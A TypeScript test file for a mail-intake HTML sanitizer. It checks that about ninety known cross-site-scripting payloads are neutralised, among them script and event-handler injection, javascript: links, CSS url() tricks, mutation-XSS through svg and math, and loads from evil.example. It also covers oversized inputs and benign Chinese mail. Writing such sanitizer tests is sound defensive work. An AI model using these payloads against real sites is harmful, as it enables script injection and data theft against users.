import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { safeHtml } from '../../../../src/intake/safe-html.ts';

/** Everything that may come out: elements, and attributes with what they may say. Written here a second time, on purpose. */
const ELEMENT =
  /^(?:p|div|span|br|hr|b|strong|i|em|u|s|strike|del|ins|sub|sup|small|big|center|font|h[1-6]|[uo]l|li|d[ltd]|table|caption|t(?:head|body|foot|r|h|d)|blockquote|pre|code|tt|address|section|article|header|footer|main)$/u;
const ATTRIBUTE = /^(?:align|valign|dir|color|bgcolor|border|cellpadding|cellspacing|colspan|rowspan|start|style)$/u;
const VALUE = /^[\w#%.,;: ()-]*$/u;

/** What in `html` is neither text nor a tag of the list; empty when all of it is. */
function strangers(html: string): string[] {
  const found: string[] = [];
  const rest = html.replaceAll(
    /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)>/gu,
    (whole, name: string, attributes: string) => {
      if (!ELEMENT.test(name)) found.push(whole);
      for (const [, key = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/gu)) {
        if (!ATTRIBUTE.test(key) || !VALUE.test(value) || /url|expression|import|script|@|\\/u.test(value))
          found.push(`${key}=${value}`);
      }
      return '';
    },
  );
  return /[<>]/u.test(rest) ? [...found, rest] : found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/a.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>x</script >y<script/src=//evil.example>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img srcset="https://evil.example/2x.png 2x">',
  '<img/src=`x`onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<picture><source srcset="//evil.example/a"><img alt="图"></picture>',
  '<body background="https://evil.example/b.png" onload=alert(1)>正文</body>',
  '<table background="//evil.example/t.png"><td background=//evil.example/c>格</td></table>',
  '<div style="background:url(https://evil.example/a)">x</div>',
  '<div style="background-image:\\75rl(//evil.example)">x</div>',
  '<div style="color:red;background:u/**/rl(//evil.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(//evil.example/x.xml#a)">x</div>',
  '<div style="list-style:url(//evil.example)">x</div>',
  '<div style="content:attr(href);cursor:url(//evil.example),auto">x</div>',
  '<div style="color:red;&#117;rl:(x)">x</div>',
  `<div style='color:"><img src=x onerror=alert(1)>'>x</div>`,
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">盖住</div>',
  '<span style="font-size:0;display:none;opacity:0">看不见</span>',
  '<style>@import "//evil.example/a.css"; body{background:url(//evil.example)}</style>',
  '<style><img src=x onerror=alert(1)></style><p>后面</p>',
  '<style>*{}</style/><img src=x onerror=alert(1)>',
  '<link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=//evil.example><link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<base href="https://evil.example/"><a href="x">相对地址</a>',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="java\nscript:alert(1)">点我</a>',
  '<a href="&#106;avascript&colon;alert(1)">点我</a>',
  '<a href="\x01javascript:alert(1)">点我</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点我</a>',
  '<a href="vbscript:msgbox(1)" ping="//evil.example" target=_top download>点我</a>',
  '<a href="https://bank.example/" onclick=alert(1)>https://other.example/</a>',
  '<a href=x><a href=y><a href=z>套</a></a></a>',
  '<form action="https://evil.example/"><input name=a value="x"><button formaction=javascript:alert(1)>提交</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option></select><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.example/a.swf"><param name=movie value=x></object>',
  '<embed src="//evil.example/a.swf"><applet code=x></applet>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><image href="//evil.example/a"/><feImage xlink:href="//evil.example/b"/><use href="//evil.example/c#d"/></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"><noframes><img src=x onerror=alert(1)></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>1</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title><title>没有结束 <img src=x onerror=alert(1)>',
  '<video poster=//evil.example><source src=//evil.example onerror=alert(1)></video><audio src=//evil.example autoplay>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<?xml-stylesheet href="//evil.example/a.xsl"?><?php echo 1 ?>',
  '<p id=x name=getElementById class="a b" data-x=1 contenteditable>占名</p>',
  '<p onmouseover=alert(1) style=color:red onmouseover=alert(2)>x</p>',
  '<p/onclick=alert(1)/style="color:red">x</p>',
  '<p align="left onclick=alert(1)">x</p><p align=&quot;left&quot;>y</p>',
  '<p title="a>b<script>alert(1)</script>">x</p>',
  `<p title='"><script>alert(1)</script>'>x`,
  '<p "<script>alert(1)</script>" x>y',
  '<td colspan="2<script>" bgcolor="red\'><script>">x</td>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;script&amp;gt;',
  '\u0000<\u0000s\u0000cript>alert(1)</script>',
  '<\u212Acript>alert(1)</\u212Acript><\u017Fcript>alert(1)</\u017Fcript>',
  '＜script＞alert(1)＜/script＞',
  '<<script>alert(1)//<</script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<bgsound src=//evil.example><layer src=//evil.example><frameset><frame src=//evil.example></frameset>',
  '<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details><dialog open>x</dialog>',
  '<portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe><custom-tag onclick=alert(1)>x</custom-tag>',
];

describe('HTML of a stranger', () => {
  it.each(HOSTILE)('comes out as elements of the list and text: %j', (html) => {
    expect(strangers(safeHtml(html))).toEqual([]);
  });

  it('is tried with enough of what has worked elsewhere', () => {
    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(80);
  });

  it('comes out the same when it is read again: nothing in it becomes markup the second time', () => {
    for (const html of HOSTILE) {
      const once = safeHtml(html);
      expect(safeHtml(once)).toBe(once);
    }
    const shard = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&',
        '--',
        '<!--',
        '-->',
        '</',
        '/>',
        '=',
        '<p',
        '<svg',
        '<style>',
        '</style>',
        '<a href=',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(shard, { maxLength: 12 }), (shards) => {
        const once = safeHtml(shards.join(''));
        expect(strangers(once)).toEqual([]);
        expect(safeHtml(once)).toBe(once);
      }),
      { numRuns: 2_000 },
    );
  });

  it('closes what it opens, in order, whatever is closed or not in the mail', () => {
    const piece = fc.constantFrom(
      '<p>',
      '</p>',
      '<table>',
      '<tr>',
      '<td>',
      '</table>',
      '<b>',
      '</b>',
      '<li>',
      '</div>',
      '字',
      '<br>',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const open: string[] = [];
        for (const [, slash, name = ''] of safeHtml(pieces.join('')).matchAll(/<(\/?)([a-z0-9]+)[^>]*>/gu)) {
          if (name === 'br') continue;
          if (slash === '') open.push(name);
          else expect(open.pop()).toBe(name);
        }
        expect(open).toEqual([]);
      }),
    );
  });

  it.each([
    ['a million open elements', '<div>'.repeat(200_000)],
    ['a million closing ones', '</div>'.repeat(160_000)],
    ['tables in tables', '<table><tr><td>'.repeat(60_000)],
    ['links that never end', '<a href="x">'.repeat(80_000)],
    ['comments that never end', '<!--'.repeat(250_000)],
    ['styles that never end', '<style>'.repeat(140_000)],
    ['quotes that never end', `<p a="${"<p b='".repeat(160_000)}`],
    ['nothing but the sign of a tag', '<'.repeat(1_000_000)],
    ['ampersands', '&'.repeat(1_000_000)],
  ])('costs time in line with its length: %s', { timeout: 10_000 }, (_name, html) => {
    const out = safeHtml(html);
    expect(strangers(out)).toEqual([]);
    expect(out.match(/<div>/gu)?.length ?? 0).toBeLessThanOrEqual(100);
  });

  it('is cut after a million characters, and says so', () => {
    expect(safeHtml('字'.repeat(1_000_001))).toMatch(/字<hr><p>〔内容过长，以下未显示〕<\/p>$/u);
  });
});

describe('an honest mail', () => {
  it.each([
    ['<p>我是<b>家长</b>。<br>学校收费</p>', '<p>我是<b>家长</b>。<br>学校收费</p>'],
    [
      '<table border=1><tr><td colspan="2" align=center>合计</table>',
      '<table border="1"><tr><td align="center" colspan="2">合计</td></tr></table>',
    ],
    ['<font color="#FF0000">红</font>', '<font color="#ff0000">红</font>'],
    [
      '<p style="color: red; font-weight:bold; margin-left:-9999px">字</p>',
      '<p style="color: red; font-weight: bold">字</p>',
    ],
    ['<ul><li>一<li>二</ul>', '<ul><li>一</li><li>二</li></ul>'],
    ['见<a href="https://jyt.example/x?a=1&amp;b=2">通知</a>。', '见通知〔https://jyt.example/x?a=1&amp;b=2〕。'],
    ['<a href="https://jyt.example/">https://jyt.example/</a>', 'https://jyt.example/'],
    ['写信到<a href="mailto:a@citizen.example">a@citizen.example</a>', '写信到a@citizen.example'],
    ['<img alt="收据照片" src="cid:1"><img src="cid:2">', '〔图片：收据照片〕〔图片〕'],
    ['5 < 6 &amp; &copy;', '5 &lt; 6 &amp; ©'],
    ['附件名 \u202egpj.exe', '附件名 gpj.exe'],
  ])('%s', (html, safe) => {
    expect(safeHtml(html)).toBe(safe);
  });

  it('shows what its sender hid', () => {
    expect(safeHtml('<div style="display:none">藏起来的话</div>')).toBe('<div>藏起来的话</div>');
  });
});
